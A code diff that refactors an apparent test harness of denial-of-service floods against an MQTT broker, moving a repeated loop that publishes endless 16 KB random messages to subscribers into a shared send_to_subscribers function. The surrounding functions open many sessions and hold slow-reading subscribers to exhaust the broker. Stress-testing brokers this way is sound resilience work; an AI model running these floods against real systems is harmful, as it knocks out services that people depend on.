@@ -189,6 +189,14 @@ def qos_2(target):
     together(10, send)
 
 
+def send_to_subscribers(target):
+    """Messages of 16 KB for whoever has subscribed, without end."""
+    ids = packet_ids()
+    payload = random.randbytes(16_000)
+    chunks = ((1, mqtt.publish("kv/1/attacker/bay/x", payload, next(ids))) for _ in itertools.count())
+    send_all(target.mqtt, target, hello, chunks)
+
+
 @flood
 def away_sessions(target):
     """1,000 sessions that subscribe and leave, then messages of 16 KB for all of them"""
@@ -208,10 +216,7 @@ def away_sessions(target):
                 COUNT["unanswered"] += 1
             if COUNT["unanswered"] > 10 and not COUNT["sessions"]:
                 break
-    ids = packet_ids()
-    payload = random.randbytes(16_000)
-    chunks = ((1, mqtt.publish("kv/1/attacker/bay/x", payload, next(ids))) for _ in itertools.count())
-    send_all(target.mqtt, target, hello, chunks)
+    send_to_subscribers(target)
 
 
 @flood
@@ -224,10 +229,7 @@ def deaf_subscribers(target):
             connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
             connection.sendall(hello() + mqtt.subscribe("kv/1/attacker/#"))
             held.append(connection)
-    ids = packet_ids()
-    payload = random.randbytes(16_000)
-    chunks = ((1, mqtt.publish("kv/1/attacker/bay/x", payload, next(ids))) for _ in itertools.count())
-    send_all(target.mqtt, target, hello, chunks)
+    send_to_subscribers(target)
 
 
 @flood
